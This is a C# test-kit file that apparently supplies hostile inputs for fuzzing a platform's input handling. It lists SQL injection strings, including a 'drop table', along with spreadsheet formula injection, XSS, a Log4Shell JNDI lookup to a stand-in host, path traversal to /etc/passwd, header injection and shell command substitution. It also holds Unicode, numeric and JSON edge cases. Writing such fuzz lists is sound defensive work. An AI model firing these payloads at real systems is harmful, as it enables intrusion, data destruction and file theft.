using System.Text;

namespace PovertyPlatform.TestKit.Door;

/// <summary>Values that have broken programs before.</summary>
internal static class Hostile
{
    private static readonly string Deep = new StringBuilder().Insert(0, "[", 500).Append(']', 500).ToString();

    /// <summary>Texts that try to become a statement, a formula, a page, a path, a look-up or a header.</summary>
    public static readonly string[] Injections =
    [
        "' or '1'='1", "'; drop table household; --", "\" or \"\"=\"", "1); select pg_sleep(9); --", "$$; select 1; $$", "\\'; select 1--", "') union select null,null--", "/**/or/**/1=1",
        "=cmd|' /C calc'!A0", "+1+cmd", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "=HYPERLINK(\"http://evil.example\")", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
        "{{7*7}}", "${jndi:ldap://evil.example/a}", "#{7*7}", "../../../../etc/passwd", "..\\..\\windows\\win.ini", "file:///etc/passwd", "\r\nSet-Cookie: a=b", "%0d%0aX: 1", "|id", "`id`", "$(id)", "%s%n%x", "%", "_", "\\",
    ];

    /// <summary>Texts at the edges of encodings.</summary>
    public static readonly string[] Unicode =
    [
        "", " ", "\0", "a\0b", "\u202Etxt.exe", "\uFEFF", "\u200B", "Z\u0351\u036B\u0343\u036A", new('\uFDFA', 3000), "\uD800", "\uDC00x", "\U0001F468\u200D\U0001F469\u200D\U0001F467", "\u0660\u0664\u0664\u0669\u0662", "\uFF10\uFF14\uFF14\uFF19\uFF12",
        "\u0131\u0130", "e\u0302\u0301", "\u1EBF", "\u001B[31m", "\u0085", "\uFFFE", "\uFFFF", "ſ", "K", new('a', 70_000), new('9', 400),
    ];

    /// <summary>Numbers, dates, ids and codes at their edges.</summary>
    public static readonly string[] Edges =
    [
        "null", "true", "NaN", "Infinity", "-Infinity", "1e999", "1e-999", "-0", "0", "-1", "1", "0x7f", "1_000", "1,5", "2147483647", "2147483648", "-2147483649", "9223372036854775807", "9223372036854775808", "32768",
        "00000000-0000-0000-0000-000000000000", "ffffffff-ffff-ffff-ffff-ffffffffffff", "{01990000-0000-7000-8000-000000000001}", "01990000000070008000000000000001", "0199000000007000800000000000000",
        "0001-01-01", "9999-12-31", "10000-01-01", "2026-02-30", "2026-11-20", "2026-11-20T00:00:00Z", "20261120", "01/02/2026", "24:00", "1", "500", "501", "2025", "2026", "Poor", "poor", "99", "Error", "CR-POOR",
        "2022-2026", "15", "92", "04492", "02680", "99999", "0449", "044920", "15,92", ",", ",,,,", "04492,02680", "a,b,c",
    ];

    /// <summary>Pieces of JSON that are no object of ours.</summary>
    public static readonly string[] Json =
    [
        "null", "true", "0", "-1", "1.5", "1e400", "9999999999999999999999", "\"\"", "[]", "{}", "[null]", "[[]]", "{\"a\":1}", "\"\\ud800\"", "\"\\u0000\"", "\"2026-02-30\"", Deep, "\"" + new string('x', 100_000) + "\"",
        "{\"$type\":\"System.Object\"}", "{\"__proto__\":{\"a\":1}}", "01", "NaN", "undefined", "'single'", "/*c*/1", "\"\n\"",
    ];

    /// <summary>Any text.</summary>
    public static string Text(Random dice) => dice.Next(4) switch
    {
        0 => Injections[dice.Next(Injections.Length)],
        1 => Unicode[dice.Next(Unicode.Length)],
        2 => Noise(dice),
        _ => Edges[dice.Next(Edges.Length)],
    };

    private static string Noise(Random dice) => string.Create(dice.Next(1, 40), dice, (span, source) =>
    {
        for (var at = 0; at < span.Length; at++)
            span[at] = (char)source.Next(source.Next(3) == 0 ? 0x10000 : 0x7F);
    });
}
